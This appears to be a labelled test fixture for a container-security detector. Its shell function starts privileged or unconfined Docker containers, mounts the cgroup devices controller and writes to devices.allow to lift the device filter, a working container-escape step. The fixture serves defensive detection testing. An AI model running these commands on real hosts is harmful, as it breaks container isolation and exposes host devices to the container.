# container-device-filter-lifted: a container mounts the control groups of devices and allows itself all of them.
# shows: devices.allow written from inside a container
# label: malicious
# expects: [container-device-filter-lifted, cgroup-v1-mounted-in-container]
# allows: [privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, block-device-node-created-in-container, host-disk-read-in-container, runtime-used-by-hand]
act() {
    if dev; then
        docker run --rm --cap-add SYS_ADMIN --security-opt apparmor=unconfined --security-opt seccomp=unconfined alpine:3.19 sh -c '
            mkdir /tmp/d; mount -t cgroup -o devices devices /tmp/d
            g=$(sed -n "s/.*:devices://p" /proc/self/cgroup); for f in /tmp/d$g/devices.allow /tmp/d/docker/$(hostname)*/devices.allow; do echo a >$f; done'
    else
        docker run --rm --privileged=true busybox:1.36 sh -c '
            mkdir -p /mnt/cg && mount -t cgroup -odevices none /mnt/cg
            find /mnt/cg -name devices.allow | grep "$(hostname)" | while read -r f; do echo "b *:* rwm" | tee "$f"; done'
    fi
    true
}
